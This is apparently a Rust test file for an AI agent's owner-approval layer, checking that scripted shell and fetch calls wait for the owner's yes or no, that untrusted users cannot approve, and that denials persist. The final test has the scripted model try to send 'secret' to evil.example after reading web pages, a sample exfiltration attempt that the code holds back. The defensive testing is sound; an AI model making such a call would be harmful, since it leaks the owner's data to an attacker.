//! Questions to the owner.

use serde_json::json;
use yabby_agent::Rules;
use yabby_core::{ErrorKind, Integrity};

use crate::{
    desk::Desk,
    script::{Say, Script},
};

pub(crate) fn exec(command: &str) -> Say {
    Say::Calls(vec![("exec", json!({"command": command}))])
}

pub(crate) fn id_of(sent: &[String]) -> String {
    let (_, behind) = sent[0].rsplit_once("/approve ").expect("it asks");
    behind.split_whitespace().next().unwrap().to_owned()
}

#[tokio::test]
async fn a_command_runs_once_after_a_yes_and_never_before() {
    let folder = tempfile::tempdir().unwrap();
    let script = Script::new([exec("ls -l"), Say::Text("Three files.")]);
    let mut desk = Desk::open(folder.path(), script, Rules::default()).await;
    let asked = desk.ask("what is here?").await;
    let id = id_of(&asked);
    assert_eq!(
        asked,
        [format!(
            "notice: May I run this command?\nls -l\nyes: /approve {id}    no: /deny {id}"
        )]
    );
    assert!(desk.world.ran.lock().unwrap().is_empty());
    // Somebody else cannot say yes, and a word is no answer.
    let other = desk.say_as(&format!("/approve {id}"), Integrity::Untrusted).await;
    desk.ended(other).await;
    assert_eq!(desk.sent().await, ["notice: only the owner can answer that"]);
    assert!(desk.world.ran.lock().unwrap().is_empty());
    assert_eq!(
        desk.ask(&format!("/approve {}", &id[..4])).await,
        ["answer: Three files."]
    );
    assert_eq!(*desk.world.ran.lock().unwrap(), ["ls -l"]);
    assert_eq!(desk.ask("/approve").await, ["notice: there is no question to answer"]);
    assert_eq!(*desk.world.ran.lock().unwrap(), ["ls -l"]);
    desk.model.assert_prefixes();
}

#[tokio::test]
async fn the_conversation_goes_on_meanwhile_and_the_result_comes_as_news() {
    let folder = tempfile::tempdir().unwrap();
    let script = Script::new([exec("make"), Say::Text("It is noon."), Say::Text("It is made.")]);
    let mut desk = Desk::open(folder.path(), script, Rules::default()).await;
    let id = id_of(&desk.ask("make it").await);
    assert_eq!(desk.ask("what time is it?").await, ["answer: It is noon."]);
    assert_eq!(desk.ask(&format!("/approve {id}")).await, ["answer: It is made."]);
    let last = format!("{:?}", desk.model.last().last().unwrap());
    assert!(
        last.contains("[news of the call of exec that waited for the owner]\\nran make"),
        "{last}"
    );
    desk.model.assert_prefixes();
}

#[tokio::test]
async fn a_no_is_told_to_the_model_and_survives_a_restart() {
    let folder = tempfile::tempdir().unwrap();
    let script = Script::new([exec("rm -r x"), Say::Text("Then not.")]);
    let mut desk = Desk::open(folder.path(), script.clone(), Rules::default()).await;
    let id = id_of(&desk.ask("tidy up").await);
    let world = desk.world.clone();
    desk.kill().await;
    let mut desk = Desk::open_in(folder.path(), script, Rules::default(), world).await;
    assert_eq!(desk.ask(&format!("/deny {id}")).await, ["answer: Then not."]);
    assert!(desk.world.ran.lock().unwrap().is_empty());
    let last = format!("{:?}", desk.model.last().last().unwrap());
    assert!(last.contains("[not run: the owner has said no."), "{last}");
    desk.model.assert_prefixes();
}

#[tokio::test]
async fn what_was_denied_is_not_asked_again_until_somebody_speaks() {
    let folder = tempfile::tempdir().unwrap();
    let script = Script::new([
        exec("rm -r x"),
        exec("rm -r x"),
        Say::Text("Then not."),
        exec("rm -r x"),
        Say::Text("Gone."),
    ]);
    let mut desk = Desk::open(folder.path(), script, Rules::default()).await;
    let id = id_of(&desk.ask("tidy up").await);
    // The model tries it once more, and is told the same without a word to the person.
    assert_eq!(desk.ask(&format!("/deny {id}")).await, ["answer: Then not."]);
    let last = format!("{:?}", desk.model.last().last().unwrap());
    assert!(last.contains("[not run: the owner has said no."), "{last}");
    assert!(desk.world.ran.lock().unwrap().is_empty());
    let id = id_of(&desk.ask("do it after all").await);
    assert_eq!(desk.ask(&format!("/approve {id}")).await, ["answer: Gone."]);
    assert_eq!(*desk.world.ran.lock().unwrap(), ["rm -r x"]);
    desk.model.assert_prefixes();
}

#[tokio::test]
async fn of_several_questions_the_owner_says_which() {
    let folder = tempfile::tempdir().unwrap();
    let two = Say::Calls(vec![
        ("exec", json!({"command": "one"})),
        ("exec", json!({"command": "two"})),
    ]);
    let script = Script::new([two, Say::Text("Both.")]);
    let mut desk = Desk::open(folder.path(), script, Rules::default()).await;
    assert_eq!(desk.ask("do both").await.len(), 2);
    let told = desk.ask("/approve").await;
    assert!(told[0].starts_with("notice: several questions are open"), "{told:?}");
    assert_eq!(desk.ask("/approve all").await, ["answer: Both."]);
    assert_eq!(*desk.world.ran.lock().unwrap(), ["one", "two"]);
}

#[tokio::test]
async fn a_question_of_a_conversation_that_has_ended_does_nothing() {
    let folder = tempfile::tempdir().unwrap();
    let script = Script::new([exec("make")]);
    let mut desk = Desk::open(folder.path(), script, Rules::default()).await;
    let id = id_of(&desk.ask("make it").await);
    assert_eq!(desk.ask("/new").await, ["notice: a new conversation"]);
    assert_eq!(
        desk.ask(&format!("/approve {id}")).await,
        ["notice: that belongs to a conversation that has ended; nothing was done"]
    );
    assert!(desk.world.ran.lock().unwrap().is_empty());
}

#[tokio::test]
async fn news_of_what_was_done_outlive_a_model_that_is_away() {
    let folder = tempfile::tempdir().unwrap();
    let script = Script::new([
        exec("make"),
        Say::Text("It is noon."),
        Say::Fails(ErrorKind::Refused),
        Say::Text("It is made."),
    ]);
    let mut desk = Desk::open(folder.path(), script, Rules::default()).await;
    let id = id_of(&desk.ask("make it").await);
    desk.ask("what time is it?").await;
    let told = desk.ask(&format!("/approve {id}")).await;
    assert_eq!(
        told,
        ["notice: I could not answer: test/model: it is away\nthese tools had done their work before: exec"]
    );
    assert_eq!(desk.ask("well?").await, ["answer: It is made."]);
    assert!(format!("{:?}", desk.model.last()).contains("ran make"));
    assert_eq!(*desk.world.ran.lock().unwrap(), ["make"]);
}

/// Before anything of others was read, the model may look where it likes; after that, only where the owner has said.
#[tokio::test]
async fn what_was_read_cannot_make_a_page_learn_something() {
    let folder = tempfile::tempdir().unwrap();
    let fetch = |url: &str| Say::Calls(vec![("fetch", json!({"url": url}))]);
    let script = Script::new([
        fetch("https://a.example/"),
        fetch("https://b.example/"),
        fetch("https://evil.example/?q=secret"),
    ]);
    let mut desk = Desk::open(folder.path(), script, Rules::default()).await;
    let asked = desk.ask("compare it with https://b.example/, please").await;
    assert_eq!(asked.len(), 1);
    assert!(asked[0].contains("evil.example"), "{asked:?}");
    let ran = desk.world.ran.lock().unwrap().clone();
    assert_eq!(ran, ["https://a.example/", "https://b.example/"]);
}
